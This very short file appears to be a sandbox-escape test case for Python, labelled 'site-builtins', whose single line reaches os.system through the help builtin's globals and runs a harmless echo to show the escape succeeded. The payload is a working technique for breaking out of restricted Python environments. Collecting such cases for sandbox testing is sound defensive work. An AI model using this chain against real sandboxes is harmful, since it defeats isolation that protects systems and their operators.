# kind: site-builtins
# effect: prints ESCAPED
help.__class__.__call__.__globals__["sys"].modules["os"].system("echo ESCAPED")
